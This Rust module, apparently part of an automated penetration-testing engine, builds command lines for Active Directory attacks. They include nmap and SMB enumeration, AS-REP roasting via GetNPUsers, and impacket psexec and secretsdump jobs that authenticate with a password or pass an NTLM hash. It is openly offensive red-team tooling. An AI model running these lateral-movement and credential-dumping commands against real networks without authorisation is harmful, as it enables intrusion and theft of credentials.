//! Job-type catalog
//!
//! Maps job-type tags to resolved command lines. Exploitation-class
//! types need a credential to resolve; everything else is a pure
//! template over the target.

use krait_core::{Credential, EngineError, FollowUpClass, Result, SecretKind};

/// Ports that mark a host as interesting for AD enumeration.
pub const AD_PORTS: [u16; 5] = [88, 389, 445, 636, 3268];

/// Enumeration follow-ups scheduled against every interesting host.
pub const ENUM_FOLLOW_UPS: [&str; 5] = [
    "enum4linux",
    "ldapdomaindump",
    "smb-scripts",
    "getnpusers",
    "cme",
];

/// Policy classification of a job type.
pub fn class_of(name: &str) -> FollowUpClass {
    match name {
        "psexec" | "secretsdump" => FollowUpClass::Exploitation,
        _ => FollowUpClass::Enumeration,
    }
}

/// Resolve a job type and target into a command line.
///
/// Exploitation types fail with `NoCredential` unless a password
/// credential is supplied.
pub fn resolve(
    name: &str,
    target: &str,
    credential: Option<&Credential>,
) -> Result<Vec<String>> {
    let ad_ports = AD_PORTS
        .iter()
        .map(u16::to_string)
        .collect::<Vec<_>>()
        .join(",");

    let command: Vec<String> = match name {
        "discovery" => vec![
            "nmap".into(),
            "-oG".into(),
            "-".into(),
            "-p".into(),
            ad_ports,
            target.into(),
        ],
        "enum4linux" => vec!["enum4linux-ng".into(), "-A".into(), target.into()],
        "ldapdomaindump" => vec!["ldapdomaindump".into(), target.into()],
        "smb-scripts" => vec![
            "nmap".into(),
            "-oG".into(),
            "-".into(),
            "-p".into(),
            "445".into(),
            "--script".into(),
            "smb-os-discovery,smb-enum-shares,smb-enum-users".into(),
            target.into(),
        ],
        "getnpusers" => vec![
            "python3".into(),
            "-m".into(),
            "impacket.examples.GetNPUsers".into(),
            "-no-pass".into(),
            target.into(),
        ],
        "cme" => vec![
            "crackmapexec".into(),
            "smb".into(),
            target.into(),
            "--shares".into(),
            "--pass-pol".into(),
            "--local-auth".into(),
            "--json".into(),
        ],
        "psexec" => impacket_command("impacket.examples.psexec", target, credential)?,
        "secretsdump" => impacket_command("impacket.examples.secretsdump", target, credential)?,
        other => return Err(EngineError::UnknownJobType(other.to_string())),
    };
    Ok(command)
}

/// True if a credential can authenticate an exploitation job directly
/// (cleartext password or a passable NTLM hash).
pub fn usable_for_exploit(credential: &Credential) -> bool {
    matches!(credential.kind, SecretKind::Password | SecretKind::NtlmHash)
}

fn impacket_command(
    module: &str,
    target: &str,
    credential: Option<&Credential>,
) -> Result<Vec<String>> {
    let cred = credential
        .filter(|c| usable_for_exploit(c))
        .ok_or_else(|| EngineError::NoCredential(target.to_string()))?;
    // impacket wants DOMAIN/user, not DOMAIN\user
    let principal = cred.principal.replace('\\', "/");

    let mut command = vec!["python3".to_string(), "-m".to_string(), module.to_string()];
    match cred.kind {
        SecretKind::Password => {
            command.push(format!("{}:{}@{}", principal, cred.secret, target));
        }
        // pass-the-hash: empty LM half, NT hash from the dump
        _ => {
            command.push("-hashes".to_string());
            command.push(format!(":{}", cred.secret));
            command.push(format!("{principal}@{target}"));
        }
    }
    Ok(command)
}
